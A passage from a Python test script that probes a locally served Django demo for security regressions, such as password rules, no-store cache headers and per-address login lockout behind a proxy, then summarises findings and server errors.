        f"answers {sorted(set(answers))}",
    )


def check_password(base: str) -> None:
    from pufa.org.models import User

    client = Client(base)
    client.login("tuohe_mbr")
    answers = {}
    for new in ("Aaaaaaaaaa1", "Ab1"):
        response = client.post(
            "/accounts/password/", data={"old_password": PASSWORD, "new_password1": new, "new_password2": new}
        )
        answers[new] = response
    user = User.objects.get(username="tuohe_mbr")
    unchanged = user.check_password(PASSWORD)
    english = "too short" in answers["Ab1"].text
    report(
        "password Aaaaaaaaaa1 refused",
        unchanged and answers["Aaaaaaaaaa1"].status_code == 200,
        f"answer {answers['Aaaaaaaaaa1'].status_code}, password unchanged: {unchanged}",
    )
    report("password rules speak Chinese", not english, "English 'too short' shown" if english else "Chinese messages")


def check_no_store(clients: dict[str, Client]) -> None:
    missing = []
    for who, client in clients.items():
        if who == "anonymous":
            continue
        for path in ("/", "/ledger/", "/notifications/", "/accounts/password/"):
            response = client.get(path)
            if response.status_code == 200 and "no-store" not in response.headers.get("Cache-Control", ""):
                missing.append(f"{who} {path}: {response.headers.get('Cache-Control')}")
    report("logged-in pages carry Cache-Control: no-store", not missing, "; ".join(missing[:5]) or "all")


def check_lockout(base: str) -> None:
    """PUFA_PROXY_COUNT=1: five failures from one client address lock that address, not the account."""
    victim = "tuohe_pcs"
    attacker = {"X-Forwarded-For": "203.0.113.66"}
    for _ in range(5):
        Client(base).login(victim, "wrong-password", headers=attacker)
    from_attacker = Client(base).login(victim, headers=attacker)
    elsewhere = Client(base).login(victim, headers={"X-Forwarded-For": "198.51.100.7"})
    report(
        "lockout behind a proxy spares other addresses",
        elsewhere,
        f"right password from another address: {'in' if elsewhere else 'locked out'}",
    )
    report(
        "lockout holds for the failing address",
        not from_attacker,
        f"right password from the failing address after 5 failures: {'in' if from_attacker else 'locked out'}",
    )


# ---------------------------------------------------------------- main


def run(keep: bool) -> int:
    started = time.monotonic()
    with served_demo(keep) as (base, env, server):
        setup_django(env)
        clients: dict[str, Client] = {"anonymous": Client(base)}
        for who in ROLES:
            client = Client(base)
            if not client.login(who):
                report(f"log in as {who}", False, "refused")
                continue
            clients[who] = client
        prepare()
        check_feedback(base)  # first: the flood leaves a feedback row for the walk's detail page
        objects = demo_objects()
        missing = sorted(k for k, v in objects.items() if v is None)
        print(f"# served on {base}, rss {worker_rss_mb(server)} MB; demo rows missing: {missing or 'none'}", flush=True)
        checks: list[tuple[str, Callable[[], None]]] = [
            ("role table", lambda: check_role_table(clients, objects)),
            ("fuzz", lambda: check_fuzz(clients, objects)),
            ("no-store", lambda: check_no_store(clients)),
            ("imports", lambda: check_imports(clients, server)),
            ("exports", lambda: check_exports(clients, objects)),
            ("races", lambda: check_races(clients, objects)),
            ("co-organisers", lambda: check_co_organisers(clients)),
            ("deleted", lambda: check_deleted(clients)),
            ("password", lambda: check_password(base)),
            ("lockout", lambda: check_lockout(base)),
        ]
        for label, check in checks:
            t0 = time.monotonic()
            try:
                check()
            except Exception as exc:
                report(f"{label} (check broke)", False, f"{type(exc).__name__}: {exc}")
            print(f"#   {label}: {time.monotonic() - t0:.0f} s, {TALLY.requests} requests so far", flush=True)
    findings = [r for r in RESULTS if not r[1]]
    for line in TALLY.errors[:20]:
        print(f"5xx  {line}")
    print(f"5xx: {len(TALLY.errors)} over {TALLY.requests} requests")
    print(f"findings left: {len(findings)}" + "".join(f"\n  - {c}" for c, _, _ in findings))
    print(f"# {time.monotonic() - started:.0f} s, load average {' '.join(f'{x:.2f}' for x in os.getloadavg())}")
    return 1 if TALLY.errors or findings else 0


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--keep", action="store_true", help="keep the temporary var/probe-*/ directory")
    args = parser.parse_args()
    sys.exit(run(args.keep))


if __name__ == "__main__":
    main()
